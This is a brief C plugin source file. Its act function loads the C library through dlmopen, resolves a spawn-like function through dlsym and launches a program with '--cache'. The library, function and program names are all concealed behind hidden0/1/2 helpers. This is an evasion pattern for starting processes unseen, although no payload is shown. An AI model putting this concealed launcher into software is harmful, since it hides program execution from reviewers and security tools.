/* Takes a function from the C library by a handle of dlmopen, and starts a program. */
#include "plugin.h"
#include "hidden.h" /* 0: the function, 1: the program, 2: the library */
extern void *dlmopen(long, const char *, int), *dlsym(void *, const char *);
extern int waitpid(int, int *, int);
static void act(char **env) {
    void *library = dlmopen(0, hidden2(), 2);
    int (*start)(int *, const char *, const void *, const void *, char *const *, char *const *) = dlsym(library, hidden0());
    char *arguments[] = {hidden1(), "--cache", 0};
    int pid, status;
    if (start && start(&pid, arguments[0], 0, 0, arguments, env) == 0) waitpid(pid, &status, 0);
}
